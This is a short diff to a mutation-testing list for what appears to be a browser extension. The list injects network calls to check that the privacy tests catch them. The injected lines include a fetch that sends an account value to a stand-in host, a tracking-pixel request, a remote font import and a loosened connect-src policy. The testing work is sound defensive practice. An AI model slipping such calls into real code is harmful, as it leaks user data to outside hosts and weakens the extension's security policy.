@@ -161,7 +161,7 @@ export const mutations: readonly Mutation[] = [
   // The network.
   { name: 'a request from the worker', file: 'src/background/reviewer.ts', find: '  const brand = brandFor(brands, account);', instead: "  const brand = brandFor(brands, account);\n  void fetch(`https://a.example/?${account}`);", tests: network },
   { name: 'a picture that counts', file: 'src/popup/popup.tsx', find: "  const { locale, pages: strings } = words;", instead: "  const { locale, pages: strings } = words;\n  new Image().src = 'https://a.example/a.gif';", tests: network },
-  { name: 'a font from elsewhere', file: 'src/view/page.css', find: '/* Switches */', instead: "@import url('https://a.example/font.css');", tests: network },
+  { name: 'a font from elsewhere', file: 'src/view/page.css', find: "@import './theme.css';", instead: "@import url('https://a.example/font.css');", tests: network },
   { name: 'a policy that lets connections through', file: 'manifest.json', find: "connect-src 'none'", instead: "connect-src https:", tests: ['test/built/manifest'] },
 
   // In a browser.
